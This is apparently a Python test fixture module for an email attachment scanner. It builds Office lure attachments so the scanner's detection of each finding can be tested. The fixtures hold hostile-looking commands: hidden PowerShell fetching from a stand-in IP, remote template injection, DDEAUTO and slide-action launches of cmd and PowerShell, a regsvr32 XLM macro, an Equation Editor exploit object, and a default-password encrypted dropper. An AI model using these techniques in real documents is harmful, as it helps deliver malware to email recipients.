"""One message per Office finding id (merged into `cases.CASES` by tests/cases.py)."""

from __future__ import annotations

from cases import Case, limits, with_attachment

from mailcheck.limits import DEFAULT
from testkit.office import (
    DROPPER_MACRO,
    build_dde_docx,
    build_docm,
    build_docx,
    build_encrypted_ooxml,
    build_pptx,
    build_rtf,
    build_stomped_vba_project,
    build_template_docx,
    build_vba_project,
    build_xls_xlm,
    build_xlsm,
    build_xlsm_macrosheet,
    equation_ole,
    ole1_object,
    ole_package,
)

OCTET = "application/octet-stream"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

# Workbook_Open that starts a program and creates objects, like xlwings' RunPython, with
# none of the traits of a dropper.
BUSINESS_AUTORUN = (
    "Private Sub Workbook_Open()\n"
    '    Set d = CreateObject("Scripting.Dictionary")\n'
    '    Shell "cmd.exe /C python -c ""import report; report.main()""", vbHide\n'
    "End Sub\n"
)
PASSWORD = "Kc8xq2Zp"


def stomped_docm() -> bytes:
    """Visible source formats a paragraph; the p-code Office runs starts PowerShell."""
    visible = "Sub Document_Open()\n    ActiveDocument.Paragraphs(1).Range.Bold = True\nEnd Sub\n"
    hidden = ("powershell -w hidden -enc SQBFAFgA", "http://203.0.113.7/p")
    return build_docm(build_stomped_vba_project(visible, hidden))


def business_xlsm() -> bytes:
    return build_xlsm(build_vba_project(host="excel", document_code=BUSINESS_AUTORUN))


def xlm_xls() -> bytes:
    return build_xls_xlm([("EXEC", ("regsvr32 -s C:\\ProgramData\\a.ocx",)), ("HALT", ())])


def plain_macrosheet() -> bytes:
    return build_xlsm_macrosheet({"A1": "SUM(1,2)", "A2": "RETURN()"}, state="visible")


def encrypted_docm(password: str) -> bytes:
    return build_encrypted_ooxml(
        build_docm(build_vba_project(document_code=DROPPER_MACRO)), password
    )


def password_mail() -> bytes:
    return with_attachment(
        encrypted_docm(PASSWORD),
        "seikyusho.docm",
        OCTET,
        "From: Sato <sato@example.co.jp>",
        "Subject: RE: invoice",
        text=f"請求書を送付します。\r\nパスワード: {PASSWORD}\r\n",
    )


CASES: dict[str, Case] = {
    "attachment.macro.autoexec": lambda: (
        with_attachment(business_xlsm(), "report.xlsm", XLSX),
        DEFAULT,
    ),
    "attachment.vba_stomping": lambda: (
        with_attachment(stomped_docm(), "invoice.docm", OCTET),
        DEFAULT,
    ),
    "attachment.xlm_macro": lambda: (with_attachment(xlm_xls(), "invoice.xls", OCTET), DEFAULT),
    "attachment.xlm_macrosheet": lambda: (
        with_attachment(plain_macrosheet(), "legacy.xlsm", XLSX),
        DEFAULT,
    ),
    "attachment.template_injection": lambda: (
        with_attachment(build_template_docx("http://203.0.113.5/t.dotm"), "order.docx", DOCX),
        DEFAULT,
    ),
    "attachment.template_injection.file_share": lambda: (
        with_attachment(
            build_template_docx("\\\\fileserver\\templates\\letter.dotx"), "letter.docx", DOCX
        ),
        DEFAULT,
    ),
    "attachment.slide_action": lambda: (
        with_attachment(
            build_pptx(
                [("hlinkMouseOver", "ppaction://program", "powershell.exe -w hidden -c calc")],
                show=True,
            ),
            "results.ppsx",
            OCTET,
        ),
        DEFAULT,
    ),
    "attachment.dde": lambda: (
        with_attachment(
            build_dde_docx('DDE Excel "C:\\\\data\\\\sales.xls" "Sheet1!R1C1"'), "sales.docx", DOCX
        ),
        DEFAULT,
    ),
    "attachment.dde.command": lambda: (
        with_attachment(
            build_dde_docx('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
            "notice.docx",
            DOCX,
        ),
        DEFAULT,
    ),
    "attachment.rtf_object": lambda: (
        with_attachment(
            build_rtf((ole1_object("Package", ole_package("notes.txt", b"hello")),)),
            "notes.rtf",
            "application/rtf",
        ),
        DEFAULT,
    ),
    "attachment.rtf_object.exploit": lambda: (
        with_attachment(
            build_rtf((ole1_object("Equation.3", equation_ole()),)),
            "scan.doc",
            "application/msword",
        ),
        DEFAULT,
    ),
    "attachment.office_password_in_body": lambda: (password_mail(), DEFAULT),
    "attachment.office_default_password": lambda: (
        with_attachment(encrypted_docm("VelvetSweatshop"), "invoice.docm", OCTET),
        DEFAULT,
    ),
    "attachment.encrypted_office": lambda: (
        with_attachment(encrypted_docm("not in the mail"), "invoice.docm", OCTET),
        DEFAULT,
    ),
    # Bytes no other case produces: a cached result would not time out.
    "analyzer.timeout": lambda: (
        with_attachment(
            build_docm(build_vba_project(document_code="Sub A()\nEnd Sub\n"), text="timeout case"),
            "slow.docm",
            OCTET,
        ),
        limits(analyzer_timeout=0.0),
    ),
    "analyzer.office_partial": lambda: (
        with_attachment(
            build_docx("<w:p><w:r><w:t>" + "partial case " * 200 + "</w:t></w:r></w:p>"),
            "long.docx",
            DOCX,
        ),
        limits(max_member_bytes=1000),
    ),
}
